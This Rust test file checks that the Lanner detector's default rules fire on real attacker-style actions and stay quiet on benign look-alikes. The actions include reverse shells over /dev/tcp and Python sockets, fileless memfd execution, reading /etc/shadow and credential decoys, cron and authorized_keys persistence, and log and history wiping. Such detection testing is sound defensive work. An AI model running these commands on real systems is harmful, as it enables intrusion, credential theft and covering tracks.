//! Lanner's default rules (`rules/lanner_rules.yaml`) on the live kernel: for every rule, an
//! action performed on this machine for real, and a benign look-alike.
//!
//! Each group of cases shares one `lanner run -o rule_matching=all`. Every action runs in its
//! own process (`sh -c`, whose pid is the action's; scripts that `exec` keep that pid), and the
//! alerts of that process and of its children are checked: the attack raises the case's rule
//! and no other rule, the look-alike raises nothing. Needs root (CI runs as root); without it
//! the live tests fail with a clear message unless LANNER_SKIP_LIVE=1 says to skip.
//!
//! Nothing here touches real credentials or configuration: keys, history files, authorized_keys
//! and release_agent are decoys in a scratch directory, and the files written below /etc,
//! /root, /usr/local/bin and /var/log are empty, named after this test, and removed.

mod common;

use common::{Daemon, live_allowed, sh};
use serde_json::Value;
use std::collections::BTreeSet;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

fn rules_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules").join(name)
}

/// `lanner run` with the default rules, JSON alerts, every matching rule reported.
fn start_default_rules() -> Daemon {
    let rules = rules_path("lanner_rules.yaml");
    Daemon::start(&["-r", rules.to_str().unwrap(), "-o", "json_output=true", "-o", "rule_matching=all"])
}

/// One action: a shell script run as its own process, and a marker in its command line.
struct Run {
    script: String,
    pid: u32,
    marker: String,
}

fn next_marker() -> String {
    static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    format!("lanner-mark-{}-{:04}", std::process::id(), N.fetch_add(1, std::sync::atomic::Ordering::Relaxed))
}

/// Runs `script` (with `{m}` replaced by a marker unique to this run) in its own `sh -c`
/// and returns its pid. Its exit status does not matter (`grep` finding nothing is fine).
fn act(script: &str) -> Run {
    let marker = next_marker();
    let script = script.replace("{m}", &marker);
    let child = Command::new("sh")
        .arg("-c")
        .arg(&script)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    finish(child, script, marker)
}

/// Runs `argv` (with `{m}` replaced by a marker) as a process that joins cgroup `cg` before
/// it execs: its exec and everything after happen in that container, and no shell runs there
/// first.
fn act_in(cg: &Path, argv: &[&str]) -> Run {
    use std::os::unix::ffi::OsStrExt;
    use std::os::unix::process::CommandExt;
    let marker = next_marker();
    let argv: Vec<String> = argv.iter().map(|a| a.replace("{m}", &marker)).collect();
    let procs = std::ffi::CString::new(cg.join("cgroup.procs").as_os_str().as_bytes()).unwrap();
    let mut cmd = Command::new(&argv[0]);
    cmd.args(&argv[1..]).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    // SAFETY: between fork and exec, only open, write and close (async-signal-safe) run.
    unsafe {
        cmd.pre_exec(move || {
            let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
            if fd < 0 {
                return Err(std::io::Error::last_os_error());
            }
            // "0" is the writing process itself.
            let n = libc::write(fd, b"0".as_ptr().cast(), 1);
            let err = std::io::Error::last_os_error();
            libc::close(fd);
            if n == 1 { Ok(()) } else { Err(err) }
        })
    };
    let child = cmd.spawn().unwrap();
    finish(child, format!("[in {}] {}", cg.display(), argv.join(" ")), marker)
}

fn finish(mut child: Child, script: String, marker: String) -> Run {
    let pid = child.id();
    let deadline = Instant::now() + Duration::from_secs(30);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("action did not finish: {script}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    Run { script, pid, marker }
}

/// A rule's case: what must raise it, and what must not raise anything.
struct Case {
    rule: &'static str,
    attacks: Vec<Run>,
    benign: Vec<Run>,
}

fn case(rule: &'static str, attacks: &[&str], benign: &[&str]) -> Case {
    Case {
        rule,
        attacks: attacks.iter().map(|s| act(s)).collect(),
        benign: benign.iter().map(|s| act(s)).collect(),
    }
}

fn num(v: &Value) -> Option<u64> {
    v.as_u64().or_else(|| v.as_i64().map(|n| n as u64)).or_else(|| v.as_str()?.parse().ok())
}

/// The alerts of a run's process and of its children (by pid, or by the marker in the
/// command line for outputs that name no pid).
fn alerts_of<'a>(alerts: &'a [Value], run: &Run) -> Vec<&'a Value> {
    let pid = run.pid as u64;
    alerts
        .iter()
        .filter(|a| {
            let f = &a["output_fields"];
            num(&f["proc.pid"]) == Some(pid)
                || num(&f["proc.ppid"]) == Some(pid)
                || f["proc.cmdline"].as_str().is_some_and(|c| c.contains(&run.marker))
        })
        .collect()
}

/// Checks every case and fails with the list of every case that did not hold.
fn check(cases: &[Case], alerts: &[Value]) {
    let mut failures = Vec::new();
    for c in cases {
        for run in &c.attacks {
            let got = alerts_of(alerts, run);
            let rules: BTreeSet<&str> = got.iter().filter_map(|a| a["rule"].as_str()).collect();
            if rules != BTreeSet::from([c.rule]) {
                failures.push(format!(
                    "'{}': attack `{}` (pid {}) raised {rules:?}, expected only this rule; alerts: {got:#?}",
                    c.rule, run.script, run.pid
                ));
            } else {
                eprintln!("ok: '{}' fires for `{}`", c.rule, run.script);
            }
        }
        for run in &c.benign {
            let got = alerts_of(alerts, run);
            if !got.is_empty() {
                failures.push(format!(
                    "'{}': benign `{}` (pid {}) raised alerts: {got:#?}",
                    c.rule, run.script, run.pid
                ));
            } else {
                eprintln!("ok: nothing fires for `{}`", run.script);
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n\n"));
}

/// A scratch directory outside the temporary directories (running a program from /tmp is
/// itself a detection), removed on drop.
struct Scratch {
    dir: PathBuf,
}

impl Scratch {
    fn new(name: &str) -> Self {
        let dir = PathBuf::from(format!("/var/lib/lanner-test-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Scratch { dir }
    }

    fn path(&self) -> String {
        self.dir.display().to_string()
    }

    /// A symbolic link named `name` to `target`: the process it runs is called `name`.
    fn alias(&self, name: &str, target: &str) {
        std::os::unix::fs::symlink(target, self.dir.join(name)).unwrap();
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

const PY: &str = "/usr/bin/python3";

#[test]
fn default_and_local_rules_validate_without_warnings() {
    for files in [vec!["lanner_rules.yaml"], vec!["lanner_rules.yaml", "lanner_rules.local.yaml"]] {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_lanner"));
        cmd.arg("validate");
        for f in &files {
            cmd.arg("-r").arg(rules_path(f));
        }
        let o = cmd.output().unwrap();
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(o.status.success(), "{files:?}: {out}");
        assert!(!out.contains("warning"), "{files:?}: {out}");
        assert!(out.trim_end().ends_with(": Ok"), "{files:?}: {out}");
    }
}

#[test]
fn every_default_rule_has_a_live_case() {
    // The rule names below, in the cases, are the whole default ruleset.
    let o = Command::new(env!("CARGO_BIN_EXE_lanner"))
        .args(["list-rules", "--json", "-r"])
        .arg(rules_path("lanner_rules.yaml"))
        .output()
        .unwrap();
    let d: Value = serde_json::from_slice(&o.stdout).unwrap();
    let names: BTreeSet<String> = d["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["info"]["name"].as_str().unwrap().to_string())
        .collect();
    let src = include_str!("default_rules.rs");
    let missing: Vec<&String> = names.iter().filter(|n| !src.contains(&format!("\"{n}\""))).collect();
    assert!(missing.is_empty(), "rules without a live case: {missing:?}");
    for r in d["rules"].as_array().unwrap() {
        let info = &r["info"];
        let name = info["name"].as_str().unwrap();
        let tags: Vec<&str> = info["tags"].as_array().unwrap().iter().filter_map(|t| t.as_str()).collect();
        assert!(
            tags.iter().any(|t| t.starts_with('T') && t[1..].starts_with(|c: char| c.is_ascii_digit())),
            "{name}: no ATT&CK technique tag: {tags:?}"
        );
        assert!(tags.iter().any(|t| t.starts_with("mitre_")), "{name}: no ATT&CK tactic tag");
        let output = info["output"].as_str().unwrap();
        for field in ["%proc.name", "%proc.pname", "%user.name", "%container.id"] {
            assert!(output.contains(field), "{name}: the output does not name {field}");
        }
        assert!(info["desc"].as_str().unwrap().len() > 40, "{name}: a description says what and why");
    }
}

#[test]
fn process_rules_fire_on_real_actions() {
    if !live_allowed() {
        return;
    }
    let s = Scratch::new("proc");
    let d = s.path();
    s.alias("nginx", "/bin/bash");
    s.alias("rustdoc", "/bin/bash");
    s.alias("nc", "/usr/bin/true");
    s.alias("ncdu", "/usr/bin/true");
    s.alias("systemd-modules-load", PY);
    std::fs::create_dir(s.dir.join("empty")).unwrap();
    let group = format!("lanner-test-{}", std::process::id());
    let lanner = start_default_rules();
    let cases = vec![
        case(
            "Shell Spawned by Server Process",
            &[&format!("exec {d}/nginx -c 'sh -c \": {{m}}\"; true'")],
            &["exec /bin/bash -c 'sh -c \": {m}\"; true'"],
        ),
        case(
            "Execution from Temporary Directory",
            &["cp /usr/bin/true /dev/shm/{m} && /dev/shm/{m}; rm -f /dev/shm/{m}"],
            &[
                "cd /tmp && exec /usr/bin/true {m}",
                // A doc test that rustdoc built and runs.
                &format!(
                    "mkdir -p /tmp/rustdoctest{{m}} && cp /usr/bin/true /tmp/rustdoctest{{m}}/rust_out && exec {d}/rustdoc -c '/tmp/rustdoctest{{m}}/rust_out; rm -rf /tmp/rustdoctest{{m}}'"
                ),
            ],
        ),
        case(
            "Fileless Execution via memfd",
            &[&format!(
                "exec {PY} -c 'import os; fd = os.memfd_create(\"x\", 0); os.write(fd, open(\"/usr/bin/true\", \"rb\").read()); os.execve(fd, [\"payload\"], {{}})' {{m}}"
            )],
            &[&format!(
                "exec {PY} -c 'import os; fd = os.memfd_create(\"x\", 0); os.write(fd, b\"data\"); os.execv(\"/usr/bin/true\", [\"true\"])' {{m}}"
            )],
        ),
        case("User Management Program Run", &[&format!("exec groupadd {group}")], &["exec passwd -S root"]),
        case(
            "Network Tool Launched",
            &[&format!("exec {d}/nc -z 127.0.0.1 9 {{m}}")],
            &[&format!("exec {d}/ncdu {{m}}")],
        ),
        case(
            "Crypto Miner Started",
            &["exec /usr/bin/true -o stratum+tcp://pool.example.invalid:3333 -u wallet {m}"],
            &["exec /usr/bin/true --notes stratum-protocol.txt {m}"],
        ),
        case(
            "Search for Private Keys or Secrets",
            &[
                &format!("exec grep -r 'BEGIN OPENSSH PRIVATE KEY' {d}/empty"),
                &format!("exec find {d}/empty -name id_rsa"),
            ],
            &[
                &format!("exec grep -r 'BEGIN CERTIFICATE' {d}/empty"),
                &format!("exec find {d}/empty -name '*.crt'"),
            ],
        ),
        case(
            "Ptrace Attach to Process",
            &[&format!(
                "exec {PY} -c 'import ctypes, os, time, signal\nlibc = ctypes.CDLL(None)\nc = os.fork()\nif c == 0:\n    time.sleep(5); os._exit(0)\nlibc.ptrace(16, c, None, None)\nos.waitpid(c, 0)\nlibc.ptrace(17, c, None, None)\nos.kill(c, signal.SIGKILL)\nos.waitpid(c, 0)' {{m}}"
            )],
            &["exec strace -f -o /dev/null /usr/bin/true {m}"],
        ),
        case(
            "Ptrace Anti-Debug Attempt",
            &[&format!(
                "exec {PY} -c 'import ctypes, os\nlibc = ctypes.CDLL(None)\nc = os.fork()\nif c == 0:\n    libc.ptrace(0, 0, None, None); os._exit(0)\nos.waitpid(c, 0)' {{m}}"
            )],
            &["exec gdb -batch -nx -ex run --args /usr/bin/true {m}"],
        ),
        case(
            "Kernel Module Loaded",
            &[
                &format!(
                    "exec {PY} -c 'import ctypes, os; fd = os.open(\"/dev/null\", 0); ctypes.CDLL(None).syscall(313, fd, b\"\", 0)' {{m}}"
                ),
                // init_module with an empty image: refused, but the attempt is reported.
                &format!(
                    "exec {PY} -c 'import ctypes; ctypes.CDLL(None).syscall(175, None, 0, b\"\")' {{m}}"
                ),
            ],
            &[&format!(
                "exec {d}/systemd-modules-load -c 'import ctypes, os; fd = os.open(\"/dev/null\", 0); ctypes.CDLL(None).syscall(313, fd, b\"\", 0)' {{m}}"
            )],
        ),
        case(
            "BPF Program Loaded by Unexpected Program",
            &[&format!("exec {PY} -c 'import ctypes; ctypes.CDLL(None).syscall(321, 5, None, 0)' {{m}}")],
            &[&format!("exec {PY} -c 'import ctypes; ctypes.CDLL(None).syscall(321, 1, None, 0)' {{m}}")],
        ),
        case(
            "Namespace Change",
            &["exec unshare --mount /usr/bin/true {m}", "exec nsenter -t $$ -m /usr/bin/true {m}"],
            &[&format!("exec {PY} -c 'import ctypes; ctypes.CDLL(None).unshare(0x400)' {{m}}")],
        ),
    ];
    let (alerts, _) = lanner.stop_with_alerts();
    sh(&format!("groupdel {group} 2>/dev/null; true"));
    check(&cases, &alerts);
}

/// Reads a child's memory with process_vm_readv, writes it with process_vm_writev, or takes
/// one of its descriptors with pidfd_getfd (`argv[1]`: read, write, getfd, or absent, a read
/// of a process that does not exist, which fails).
const TAKE_FROM_CHILD: &str = r#"
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
what = sys.argv[1]
buf = ctypes.create_string_buffer(b"lanner-test-data", 32)
class Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local = Iov(ctypes.cast(buf, ctypes.c_void_p), 16)
remote = Iov(ctypes.cast(buf, ctypes.c_void_p), 16)
if what == "missing":
    assert libc.syscall(310, 4194303, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0
    sys.exit(0)
fd = os.open("/dev/null", os.O_RDONLY)
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
if what == "read":
    r = libc.syscall(310, child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
elif what == "write":
    r = libc.syscall(311, child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
else:
    pidfd = libc.syscall(434, child, 0)
    r = libc.syscall(438, pidfd, fd, 0)
assert r >= 0, ctypes.get_errno()
os.kill(child, 9)
os.waitpid(child, 0)
"#;

/// io_uring_setup with `argv[1]` entries (0 is refused).
const IO_URING_SETUP: &str = r#"
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, int(sys.argv[1]), params)
assert (fd >= 0) == (sys.argv[1] != "0"), ctypes.get_errno()
"#;

#[test]
fn evasion_rules_fire_on_real_actions() {
    if !live_allowed() {
        return;
    }
    let s = Scratch::new("evasion");
    let d = s.path();
    std::fs::write(s.dir.join("take.py"), TAKE_FROM_CHILD).unwrap();
    std::fs::write(s.dir.join("uring.py"), IO_URING_SETUP).unwrap();
    s.alias("fio", PY);
    s.alias("gdb", PY);
    let lanner = start_default_rules();
    let cases = vec![
        case(
            "Another Process's Memory or Descriptor Taken",
            &[
                &format!("exec {PY} {d}/take.py read {{m}}"),
                &format!("exec {PY} {d}/take.py write {{m}}"),
                &format!("exec {PY} {d}/take.py getfd {{m}}"),
            ],
            &[
                &format!("exec {PY} {d}/take.py missing {{m}}"),
                &format!("exec {d}/gdb {d}/take.py read {{m}}"),
            ],
        ),
        case(
            "io_uring Used by Unexpected Program",
            &[&format!("exec {PY} {d}/uring.py 8 {{m}}")],
            &[&format!("exec {PY} {d}/uring.py 0 {{m}}"), &format!("exec {d}/fio {d}/uring.py 8 {{m}}")],
        ),
    ];
    let (alerts, _) = lanner.stop_with_alerts();
    check(&cases, &alerts);
}

#[test]
fn file_rules_fire_on_real_actions() {
    if !live_allowed() {
        return;
    }
    let s = Scratch::new("file");
    let d = s.path();
    let tag = format!("lanner-test-{}", std::process::id());
    s.alias("dpkg", "/usr/bin/touch");
    s.alias("NetworkManager", "/usr/bin/touch");
    sh(&format!(
        "mkdir -p {d}/home/.ssh {d}/home/.aws {d}/cgroup && echo decoy > {d}/home/.ssh/id_ed25519 \
         && echo decoy > {d}/home/.ssh/id_ed25519.pub && echo decoy > {d}/home/.aws/credentials \
         && echo ls > {d}/home/.bash_history && echo ls > {d}/home/.zsh_history \
         && echo ls > {d}/home/.sh_history && echo ls > {d}/home/.ash_history \
         && echo start >> /var/log/{tag}-2.log && echo start >> /var/log/{tag}-3.log \
         && touch {d}/home/.ssh/authorized_keys {d}/cgroup/release_agent {d}/suid {d}/plain \
         && echo start >> /var/log/{tag}.log && mkdir -p /etc/cron.d /root/.cache"
    ));
    let lanner = start_default_rules();
    let cases = vec![
        case(
            "Read Sensitive File by Untrusted Program",
            &["exec cat /etc/shadow /{m}"],
            &["exec cat /etc/passwd /{m}"],
        ),
        case(
            "Read SSH Private Key or Cloud Credentials",
            &[&format!("exec cat {d}/home/.ssh/id_ed25519"), &format!("exec cat {d}/home/.aws/credentials")],
            &[&format!("exec cat {d}/home/.ssh/id_ed25519.pub")],
        ),
        case(
            "Write Below Binary Directory",
            &[&format!("exec touch /usr/local/bin/{tag}")],
            &[&format!("exec {d}/dpkg /usr/local/bin/{tag}-pkg")],
        ),
        case(
            "Write Below Etc",
            &[&format!("exec touch /etc/{tag}")],
            &[&format!("exec {d}/NetworkManager /etc/{tag}-nm"), &format!("exec cat /etc/{tag}")],
        ),
        case(
            "Write Below Root Home",
            &[&format!("exec touch /root/{tag}")],
            &[&format!("exec touch /root/.cache/{tag}"), &format!("exec touch /root/.{tag}.swp")],
        ),
        case(
            "Cron Job Written",
            &[&format!("exec touch /etc/cron.d/{tag}")],
            &[&format!("exec cat /etc/cron.d/{tag}")],
        ),
        case(
            "Systemd Unit or Init Script Written",
            &[&format!("exec touch /etc/systemd/system/{tag}.service")],
            &[&format!("exec cat /etc/systemd/system/{tag}.service")],
        ),
        case(
            "SSH Authorized Keys Modified",
            &[
                &format!("echo 'ssh-ed25519 AAAA {{m}}' >> {d}/home/.ssh/authorized_keys"),
                &format!(
                    "echo 'ssh-ed25519 BBBB {{m}}' > {d}/home/.ssh/keys.new && exec mv {d}/home/.ssh/keys.new {d}/home/.ssh/authorized_keys"
                ),
            ],
            &[&format!("exec cat {d}/home/.ssh/authorized_keys")],
        ),
        case(
            "Shell History Deleted or Truncated",
            &[
                &format!("exec rm {d}/home/.bash_history"),
                &format!(": > {d}/home/.zsh_history"),
                &format!("exec mv {d}/home/.sh_history {d}/home/moved"),
                &format!("exec ln -sf /dev/null {d}/home/.ash_history"),
            ],
            &[&format!("echo ls >> {d}/home/.zsh_history")],
        ),
        case(
            "Log File Cleared",
            &[
                &format!(": > /var/log/{tag}.log"),
                &format!("exec truncate -s 0 /var/log/{tag}-2.log"),
                &format!("exec rm /var/log/{tag}-3.log"),
            ],
            &[&format!("echo {{m}} >> /var/log/{tag}.log")],
        ),
        case(
            "Setuid or Setgid Bit Set",
            &[&format!("exec chmod u+s {d}/suid")],
            &[&format!("exec chmod 0755 {d}/plain")],
        ),
        case(
            "Cgroup Release Agent Written",
            &[&format!("echo /bin/true > {d}/cgroup/release_agent")],
            &["exec cat /sys/fs/cgroup/memory/release_agent"],
        ),
    ];
    let (alerts, _) = lanner.stop_with_alerts();
    sh(&format!(
        "rm -f /usr/local/bin/{tag} /usr/local/bin/{tag}-pkg /etc/{tag} /etc/{tag}-nm /root/{tag} \
         /root/.cache/{tag} /root/.{tag}.swp /etc/cron.d/{tag} /etc/systemd/system/{tag}.service /var/log/{tag}.log /var/log/{tag}-2.log"
    ));
    check(&cases, &alerts);
}

#[test]
fn network_rules_fire_on_real_actions() {
    if !live_allowed() {
        return;
    }
    // A peer for the reverse shell: reads whatever the shell sends.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for c in listener.incoming() {
            let Ok(mut c) = c else { break };
            std::thread::spawn(move || {
                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
                let mut sink = Vec::new();
                let _ = c.read_to_end(&mut sink);
            });
        }
    });
    let connect = |addr: &str, port: u16| {
        format!(
            "exec {PY} -c 'import socket; s = socket.socket(); s.setblocking(False); s.connect_ex((\"{addr}\", {port})); s.close()' {{m}}"
        )
    };
    let s = Scratch::new("net");
    let d = s.path();
    s.alias("nc", PY);
    let lanner = start_default_rules();
    let cases = vec![
        case(
            "Reverse Shell",
            &[
                &format!("exec bash -c 'exec >& /dev/tcp/127.0.0.1/{port} 0>&1; echo {{m}}'"),
                &format!(
                    "exec {PY} -c 'import socket, os; s = socket.create_connection((\"127.0.0.1\", {port})); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)' {{m}}"
                ),
                // dup3: os.dup2 with inheritable=False.
                &format!(
                    "exec {PY} -c 'import socket, os; s = socket.create_connection((\"127.0.0.1\", {port})); os.dup2(s.fileno(), 1, inheritable=False)' {{m}}"
                ),
            ],
            &[&format!(
                "exec bash -c 'exec 7<>/dev/tcp/127.0.0.1/{port}; exec >/dev/null 0</dev/null; exec 7>&-; : {{m}}'"
            )],
        ),
        // 192.0.2.0/24 is TEST-NET-1: a non-blocking connect goes out and nobody answers.
        case(
            "Connection to Mining Pool Port",
            &[&connect("192.0.2.77", 3333)],
            &[&connect("192.0.2.77", 3380)],
        ),
        case(
            "Connection to Cloud Metadata Service",
            &[&connect("169.254.169.254", 80)],
            &[&connect("169.254.169.253", 80)],
        ),
    ];
    // `nc -e /bin/sh`: the relay puts the socket on the shell's standard streams before
    // running it. Both its launch and the redirection are reported.
    let nc = act(&format!(
        "exec {d}/nc -c 'import socket, os; s = socket.create_connection((\"127.0.0.1\", {port})); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)' {{m}}"
    ));
    let (alerts, _) = lanner.stop_with_alerts();
    check(&cases, &alerts);
    let rules: BTreeSet<&str> = alerts_of(&alerts, &nc).iter().filter_map(|a| a["rule"].as_str()).collect();
    assert_eq!(rules, BTreeSet::from(["Network Tool Launched", "Reverse Shell"]), "{}", nc.script);
}

#[test]
fn container_rules_fire_on_real_actions() {
    if !live_allowed() {
        return;
    }
    // A process moved into a cgroup named like a Docker container's gets its container id.
    let id = format!("{:016x}", (std::process::id() as u64 ^ 0x5eed).wrapping_mul(0x9e37_79b9_7f4a_7c15))
        .repeat(4);
    let base = ["/sys/fs/cgroup/unified", "/sys/fs/cgroup"]
        .into_iter()
        .find(|b| Path::new(b).join("cgroup.procs").exists())
        .expect("a cgroup hierarchy");
    let cg = Path::new(base).join("docker").join(&id);
    std::fs::create_dir_all(&cg).unwrap();
    let s = Scratch::new("ctr");
    let d = s.path();
    sh(&format!(
        "mkdir -p {d}/mnt {d}/mnt-host {d}/mnt-api && echo 'echo hi' > {d}/script && chmod 0644 {d}/script && echo data > {d}/data && chmod 0644 {d}/data"
    ));
    let lanner = start_default_rules();
    // Each process joins the container before its exec. (A shell that moves itself there right
    // after its own exec may see that exec attributed to the container as well: Lanner looks
    // a process's container up in /proc when it handles the exec, not when the exec happened.)
    let inside = |argv: &[&str]| act_in(&cg, argv);
    let ctr = |rule, attacks: Vec<Run>, benign: Vec<Run>| Case { rule, attacks, benign };
    let cases = vec![
        ctr(
            "Shell in Container",
            vec![inside(&["sh", "-c", ": {m}"])],
            vec![inside(&["/usr/bin/env", "true", "{m}"])],
        ),
        ctr(
            "Package Manager in Container",
            vec![inside(&["dpkg", "-s", "coreutils", "{m}"])],
            vec![act("exec dpkg -s coreutils {m}")],
        ),
        ctr(
            "Mount in Container",
            vec![
                inside(&["mount", "-t", "tmpfs", "lanner-test", &format!("{d}/mnt")]),
                // The new mount API: fsopen, fsconfig, fsmount, move_mount.
                inside(&[
                    PY,
                    "-c",
                    &format!(
                        "import ctypes; l = ctypes.CDLL(None); fs = l.syscall(430, b'tmpfs', 0); l.syscall(431, fs, 6, None, None, 0); m = l.syscall(432, fs, 0, 0); assert l.syscall(429, m, b'', -100, b'{d}/mnt-api', 4) == 0"
                    ),
                    "{m}",
                ]),
            ],
            vec![act(&format!("exec mount -t tmpfs lanner-test {d}/mnt-host"))],
        ),
        ctr(
            "Executable Dropped in Container",
            vec![
                inside(&["cp", "/usr/bin/true", &format!("{d}/dropped")]),
                inside(&["chmod", "+x", &format!("{d}/script")]),
            ],
            vec![
                inside(&["cp", &format!("{d}/data"), &format!("{d}/copied")]),
                act(&format!("exec cp /usr/bin/true {d}/dropped-on-host")),
            ],
        ),
    ];
    let (alerts, _) = lanner.stop_with_alerts();
    sh(&format!(
        "umount {d}/mnt 2>/dev/null; umount {d}/mnt-host 2>/dev/null; umount -l {d}/mnt-api 2>/dev/null; true"
    ));
    std::fs::remove_dir(&cg).ok();
    std::fs::remove_dir(cg.parent().unwrap()).ok();
    for a in &alerts {
        if a["rule"] == "Shell in Container" {
            assert_eq!(a["output_fields"]["container.id"], id[..12]);
        }
    }
    check(&cases, &alerts);
}

#[test]
fn the_local_example_tunes_the_defaults() {
    // The same events through the defaults alone, and with the local example loaded after them.
    let events = br#"{"ts": 1, "type": "execve", "fields": {"evt.res": "SUCCESS", "proc.name": "tcpdump", "proc.cmdline": "tcpdump -i eth0", "proc.pname": "bash", "user.name": "netops", "user.uid": 1001, "container.id": "host"}}
{"ts": 2, "type": "execve", "fields": {"evt.res": "SUCCESS", "proc.name": "tcpdump", "proc.cmdline": "tcpdump -i eth0", "proc.pname": "bash", "user.name": "mallory", "user.uid": 1002, "container.id": "host"}}
{"ts": 3, "type": "connect", "fields": {"evt.res": "SUCCESS", "fd.typechar": "4", "fd.sip": "169.254.169.254", "fd.sport": 80, "proc.name": "curl", "proc.pname": "bash", "user.name": "root", "container.id": "host"}}
{"ts": 4, "type": "execve", "fields": {"evt.res": "SUCCESS", "proc.name": "sh", "proc.cmdline": "sh -c /opt/app/bin/healthcheck --deep", "proc.pname": "java", "user.name": "app", "container.id": "host"}}
{"ts": 5, "type": "execve", "fields": {"evt.res": "SUCCESS", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "sh", "user.name": "root", "container.id": "0123456789ab"}}
"#;
    let file = std::env::temp_dir().join(format!("lanner-local-events-{}.jsonl", std::process::id()));
    std::fs::write(&file, events).unwrap();
    let run = |files: &[&str]| -> Vec<(String, String, String)> {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_lanner"));
        cmd.arg("replay").arg(&file).arg("--json");
        for f in files {
            cmd.arg("-r").arg(rules_path(f));
        }
        let o = cmd.output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout)
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .map(|a| {
                let f = &a["output_fields"];
                let who = f["user.name"].as_str().or(f["proc.pname"].as_str()).unwrap_or("").to_string();
                (a["rule"].as_str().unwrap().to_string(), a["priority"].as_str().unwrap().to_string(), who)
            })
            .collect()
    };
    let t = |r: &str, p: &str, w: &str| (r.to_string(), p.to_string(), w.to_string());
    assert_eq!(
        run(&["lanner_rules.yaml"]),
        vec![
            t("Network Tool Launched", "Notice", "netops"),
            t("Network Tool Launched", "Notice", "mallory"),
            t("Connection to Cloud Metadata Service", "Notice", "root"),
            t("Shell Spawned by Server Process", "Warning", "app"),
            t("Shell in Container", "Notice", "root"),
        ]
    );
    // The network team's tcpdump is an exception, the metadata rule is disabled, the health
    // check is an exception, and shells in containers are informational.
    assert_eq!(
        run(&["lanner_rules.yaml", "lanner_rules.local.yaml"]),
        vec![
            t("Network Tool Launched", "Notice", "mallory"),
            t("Shell in Container", "Informational", "root")
        ]
    );
}
